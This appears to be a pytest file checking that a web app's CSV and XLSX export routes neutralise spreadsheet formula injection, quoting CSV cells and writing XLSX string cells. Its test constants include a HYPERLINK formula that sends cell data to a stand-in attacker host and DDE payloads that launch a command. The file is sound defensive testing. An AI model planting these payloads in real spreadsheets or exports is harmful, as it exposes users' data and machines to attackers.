"""Issue 10, problem 2: exports never carry live formulas. A unit editor's (or anyone's) text
that starts like a formula is stored through the normal actions and every XLSX/CSV export
route of the web app must hand it back as literal text: in CSV with a leading single quote
(OWASP), in XLSX as a string cell (no formula element anywhere in the workbook)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator

import openpyxl
import pytest
from starlette.testclient import TestClient

from ipcity.protection.actions import do_update_case
from ipcity.protection.queries import get_case
from ipcity.workspace.actions import (
    do_create_user,
    do_update_target,
    do_update_task,
    do_update_unit,
)
from ipcity.workspace.auth import load_actor
from ipcity.workspace.models import IndicatorTarget, Task, Unit
from ipcity.workspace.permissions import system_actor
from tests.support.web_world import PASSWORD, WebWorld, page_login

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
UNIT_CODE = "-A1"  # a unit code may start with "-" (codes allow letters, digits, _ . -)
USER_NAME = "@a1"
PAYLOADS = (HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", UNIT_CODE, USER_NAME)
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")

# Every XLSX/CSV export route of the web app (grep "_download\|to_csv\|export" in web/).
ROUTES = (
    ("/work-plans/{wp}/export?format=xlsx", "xlsx"),
    ("/work-plans/{wp}/export?format=csv", "csv"),
    ("/plans/{plan}/targets/export?format=xlsx", "xlsx"),
    ("/plans/{plan}/targets/export?format=csv", "csv"),
    ("/protection/cases/export?format=xlsx&year=2023", "xlsx"),
    ("/protection/cases/export?format=csv&year=2023", "csv"),
    ("/protection/indicators/export?year=2023&by=unit", "csv"),
    ("/admin/audit.csv", "csv"),
)


@pytest.fixture
def stored(world: WebWorld) -> Iterator[WebWorld]:
    """The payloads stored through the normal actions: a task title and description, a
    target's name and note, a case's cause and parties, a unit's name (shown by the
    indicators broken down by unit, the only user text in that export: the unit code, which
    cannot hold "=" but may start with "-"). The audit log records all of it."""
    sysa = system_actor("test")
    with world.db.write() as s:
        task = s.get(Task, world["t1"])
        assert task is not None
        do_update_task(
            s,
            sysa,
            task.id,
            expected_version=task.version,
            changes={"title": HYPERLINK, "description": DDE},
        )
        target = s.get(IndicatorTarget, world["target"])
        assert target is not None
        do_update_target(
            s,
            sysa,
            target.id,
            expected_version=target.version,
            changes={"name": DDE, "note": HYPERLINK},
        )
        case = get_case(s, sysa, world["case_a"])
        do_update_case(
            s,
            sysa,
            case.id,
            expected_version=case.version,
            changes={"cause": HYPERLINK, "claimants": DDE, "respondents": PAYLOADS[2]},
        )
        unit = s.get(Unit, world["unit_a"])
        assert unit is not None
        do_update_unit(
            s,
            sysa,
            unit.id,
            expected_version=unit.version,
            changes={"name": DDE, "code": UNIT_CODE},
        )
        # A user named "@a1" (user names may start with @ or -) acts: the audit log names them.
        user = do_create_user(
            s,
            sysa,
            {"username": USER_NAME, "role": "unit_editor", "unit_id": world["unit_a"]},
            password=PASSWORD,
        )
    with world.db.write() as s:
        editor = load_actor(s, user.id)
        case = get_case(s, editor, world["case_a"])
        do_update_case(s, editor, case.id, expected_version=case.version, changes={"note": DDE})
    yield world


def _csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _xlsx_cells(body: bytes) -> list[tuple[str | None, object]]:
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", z.read(name)), f"a formula in {name}"
    wb = openpyxl.load_workbook(io.BytesIO(body))  # not data_only: formulas would show
    return [(c.data_type, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row]


@pytest.mark.parametrize(("route", "fmt"), ROUTES)
def test_export_writes_formula_text_as_text(
    client: TestClient, stored: WebWorld, route: str, fmt: str
) -> None:
    page_login(client, "admin")
    url = route.format(wp=stored["wp"], plan=stored["plan"])
    r = client.get(url)
    assert r.status_code == 200, r.text[:300]
    if fmt == "csv":
        cells = _csv_cells(r.content)
        risky = [
            c
            for c in cells
            if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
            and not NUMBER.fullmatch(c)
        ]
        assert risky == [], f"{url}: cells a spreadsheet would run: {risky}"
        hits = [c for c in cells if any(p in c for p in PAYLOADS)]
        assert hits, f"{url}: the stored text is not in the export"
        # Cells that are the payload come back as the payload behind one quote (OWASP).
        whole = [c for c in hits if c.lstrip("'") in PAYLOADS]
        assert whole and all(c.startswith("'") for c in whole), whole
    else:
        cells = _xlsx_cells(r.content)
        assert all(t != "f" for t, _ in cells)
        texts = [v for t, v in cells if isinstance(v, str)]
        found = [v for v in texts if v in PAYLOADS]
        assert found, f"{url}: the stored text is not in the export"
        assert all(t == "s" for t, v in cells if v in PAYLOADS)


def test_export_round_trip_keeps_the_text(client: TestClient, stored: WebWorld) -> None:
    """The quote is only for the spreadsheet: importing the exported CSV again changes
    nothing (the title is still the payload, not "'=HYPERLINK...")."""
    csrf = page_login(client, "admin")
    exported = client.get(f"/work-plans/{stored['wp']}/export?format=csv").content
    r = client.post(
        f"/work-plans/{stored['wp']}/import",
        data={"csrf_token": csrf},
        files={"file": ("tasks.csv", exported, "text/csv")},
    )
    assert r.status_code == 200, r.text[:500]
    # the preview: nothing to add or change, so no confirm form
    assert 'data-count="add">0<' in r.text and 'data-count="update">0<' in r.text, r.text[-1500:]
    assert 'name="upload"' not in r.text
    with stored.db.read() as s:
        task = s.get(Task, stored["t1"])
        assert task is not None and task.title == HYPERLINK and task.description == DDE
